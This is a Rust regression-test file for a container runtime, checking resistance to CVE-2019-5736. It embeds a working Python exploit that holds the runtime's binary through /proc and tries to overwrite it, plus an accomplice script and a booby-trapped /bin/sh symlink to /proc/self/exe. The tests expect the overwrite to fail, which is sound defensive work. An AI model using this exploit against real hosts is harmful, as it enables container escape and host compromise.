//! CVE-2019-5736: a container gets hold of the program that enters it, by way of a shell that is `/proc/self/exe`, and
//! writes to it once nothing runs from it any more. The program that these tests are about is a copy of the real one.

#[cfg(test)]
mod tests {
    use gaufre_tests::{Crafted, Gaufre, images, run, tool, until};
    use sha2::{Digest, Sha256};
    use std::fs;
    use std::io::Write;
    use std::os::unix::fs::symlink;
    use std::path::{Path, PathBuf};
    use std::process::{Child, Stdio};

    /// Holds by O_PATH every program that runs and is none of the container's own, or that a neighbour sends; tries to
    /// write to it until that is decided, and reports to a file that needs nobody outside.
    const THIEF: &str = r#"
import errno, os, socket, time
report = os.open('/out/report', os.O_WRONLY | os.O_APPEND | os.O_CREAT)
say = lambda *words: os.write(report, (' '.join(words) + '\n').encode())
listener = socket.socket(socket.AF_UNIX)
listener.bind('/out/socket')
listener.listen()
listener.setblocking(False)
held, seen = [], set()
say('READY')
def foreign(fd):
    try:
        a, b = os.fstat(fd), os.stat(os.readlink('/proc/self/fd/%d' % fd))
        return (a.st_dev, a.st_ino) != (b.st_dev, b.st_ino)
    except OSError:
        return True
def hold(fd, where):
    held.append((fd, where))
    say('HELD', os.readlink('/proc/self/fd/%d' % fd))
while True:
    for pid in filter(str.isdigit, os.listdir('/proc')):
        if pid in seen or int(pid) == os.getpid():
            continue
        try:
            fd = os.open('/proc/%s/exe' % pid, os.O_PATH)
        except OSError:
            continue
        if foreign(fd):
            seen.add(pid)
            hold(fd, '/proc/' + pid)
        else:
            os.close(fd)
    try:
        neighbour, _ = listener.accept()
        hold(socket.recv_fds(neighbour, 1, 1)[1][0], '/gone')
    except BlockingIOError:
        pass
    for entry in list(held):
        fd, where = entry
        if os.path.exists(where):
            continue
        try:
            again = os.open('/proc/self/fd/%d' % fd, os.O_WRONLY)
            os.write(again, b'#!stolen\n')
            os.close(again)
            say('WRITTEN')
        except OSError as error:
            if error.errno == errno.ETXTBSY:
                continue
            say('REFUSED', errno.errorcode[error.errno])
        held.remove(entry)
"#;

    /// Sends the thief next door the program of the first process here.
    const ACCOMPLICE: &str = r"
import os, socket
there = socket.socket(socket.AF_UNIX)
there.connect('/out/socket')
socket.send_fds(there, [b'x'], [os.open('/proc/1/exe', os.O_PATH)])
";

    /// A copy of the program, and the store that it works on.
    struct Target {
        gaufre: Gaufre,
        binary: PathBuf,
        before: Vec<u8>,
        dir: tempfile::TempDir,
    }

    impl Target {
        fn new() -> Self {
            let dir = tempfile::tempdir().unwrap();
            let binary = dir.path().join("gaufre");
            fs::copy(Gaufre::new().binary(), &binary).unwrap();
            fs::create_dir(dir.path().join("out")).unwrap();
            let gaufre = Gaufre::with_binary(&binary);
            Crafted::over("python").layer(hostile_shells).load(&gaufre, "example.com/thief:1");
            Self { before: digest(&binary), gaufre, binary, dir }
        }

        fn start_thief(&self, script: &str) {
            let out = format!("{}:/out", self.dir.path().join("out").display());
            let arguments = ["run", "-d", "--name=thief", "--network=none", "-v", &out];
            self.gaufre.ok(&[&arguments[..], &["example.com/thief:1", "python3", "-c", script]].concat());
            self.reported("READY");
        }

        fn report(&self) -> String {
            fs::read_to_string(self.dir.path().join("out/report")).unwrap_or_default()
        }

        fn reported(&self, what: &str) {
            until(what, || self.report().contains(what).then_some(()));
        }

        /// Kills whatever still runs from the program, so that it is busy for no writer, and sees what comes of it.
        fn withstands(&self) {
            until("what comes of it once nothing runs from the program", || {
                for pid in self.gaufre.processes() {
                    // It may have ended meanwhile.
                    let _ = tool("kill").args(["-KILL", &pid.to_string()]).output();
                }
                self.report()
                    .lines()
                    .any(|line| line.starts_with("REFUSED") || line == "WRITTEN")
                    .then_some(())
            });
            let report = self.report();
            assert!(!report.contains("WRITTEN"), "{report}");
            // A read-only mount, or a sealed copy.
            assert!(report.contains("REFUSED EROFS") || report.contains("REFUSED EPERM"), "{report}");
            assert!(digest(&self.binary) == self.before, "{} has changed", self.binary.display());
        }
    }

    fn digest(path: &Path) -> Vec<u8> {
        Sha256::digest(fs::read(path).unwrap()).to_vec()
    }

    fn hostile_shells(root: &Path) {
        let bin = root.join("usr/bin");
        fs::create_dir_all(&bin).unwrap();
        let _ = fs::remove_file(bin.join("sh"));
        symlink("/proc/self/exe", bin.join("sh")).unwrap();
        fs::write(bin.join("script"), "#!/proc/self/exe\n").unwrap();
        run(tool("chmod").arg("755").arg(bin.join("script")));
    }

    /// A command whose input stays open until it is dropped.
    fn with_input(gaufre: &Gaufre, arguments: &[&str]) -> Child {
        let mut command = gaufre.command();
        command.args(arguments).stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null());
        command.spawn().unwrap()
    }

    #[test]
    fn a_shell_that_is_a_link_to_our_program_cannot_be_written_after_exec() {
        let target = Target::new();
        target.start_thief(THIEF);
        // It waits for an archive on its input.
        let mut inside = with_input(&target.gaufre, &["exec", "-i", "thief", "/bin/sh", "load"]);
        target.reported("HELD");
        inside.stdin.take().unwrap().write_all(b"no archive").unwrap();
        inside.wait().unwrap();
        target.withstands();
    }

    #[test]
    fn a_script_whose_interpreter_is_our_program_cannot_be_written_after_exec() {
        let target = Target::new();
        target.start_thief(THIEF);
        until("the thief to catch a short-lived process", || {
            target.gaufre.say(&["exec", "thief", "/bin/script"]);
            target.report().contains("HELD").then_some(())
        });
        target.withstands();
    }

    #[test]
    fn our_program_as_first_process_cannot_be_written_when_its_container_is_gone() {
        let target = Target::new();
        target.start_thief(THIEF);
        let out = format!("{}:/out", target.dir.path().join("out").display());
        let options = ["run", "-d", "-i", "--name=first", "--network=none", "-v", &out];
        target.gaufre.ok(&[&options[..], &["example.com/thief:1", "/bin/sh", "load"]].concat());
        target.gaufre.ok(&["exec", "first", "python3", "-c", ACCOMPLICE]);
        target.reported("HELD");
        target.gaufre.ok(&["rm", "-f", "--time=0", "first"]);
        target.withstands();
    }

    #[test]
    fn the_runtime_that_others_drive_cannot_be_written_after_exec() {
        let dir = tempfile::tempdir().unwrap();
        let runtime = dir.path().join("gaufre-oci");
        fs::copy(Gaufre::new().binary().with_file_name("gaufre-oci"), &runtime).unwrap();
        let before = digest(&runtime);
        let bundle = dir.path().join("bundle");
        run(tool("umoci")
            .args(["unpack", "--image"])
            .arg(format!("{}:python", images().display()))
            .arg(&bundle));
        hostile_shells(&bundle.join("rootfs"));
        fs::create_dir(bundle.join("rootfs/out")).unwrap();
        fs::remove_file(bundle.join("config.json")).unwrap();
        let oci = |words: &[&str]| {
            let mut command = tool(runtime.to_str().unwrap());
            command.arg("--root").arg(dir.path().join("state")).args(words).current_dir(&bundle);
            command
        };
        run(&mut oci(&["spec"]));
        let config = fs::read(bundle.join("config.json")).unwrap();
        let mut config: serde_json::Value = serde_json::from_slice(&config).unwrap();
        config["process"]["args"] = serde_json::json!(["python3", "-c", THIEF]);
        config["root"]["readonly"] = serde_json::json!(false);
        fs::write(bundle.join("config.json"), config.to_string()).unwrap();
        let id = format!("thief-{}", std::process::id());
        // What it says would be waited for until the container's end.
        assert!(
            oci(&["create", &id]).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap().success()
        );
        let _deleted = Deleted(oci(&["delete", "--force", &id]));
        run(&mut oci(&["start", &id]));
        let report = || fs::read_to_string(bundle.join("rootfs/out/report")).unwrap_or_default();
        until("the thief", || report().contains("READY").then_some(()));
        until("the thief to catch a short-lived process", || {
            for program in ["/bin/sh", "/bin/script"] {
                let _ = oci(&["exec", &id, program, "--version"]).output();
            }
            report().contains("HELD").then_some(())
        });
        until("an answer", || {
            report().lines().any(|line| line.starts_with("REFUSED") || line == "WRITTEN").then_some(())
        });
        let report = report();
        assert!(!report.contains("WRITTEN"), "{report}");
        assert!(report.contains("REFUSED EROFS") || report.contains("REFUSED EPERM"), "{report}");
        assert!(digest(&runtime) == before, "{} has changed", runtime.display());
    }

    /// A command to be run at the end, also by a test that fails.
    struct Deleted(std::process::Command);

    impl Drop for Deleted {
        fn drop(&mut self) {
            let _ = self.0.output();
        }
    }
}
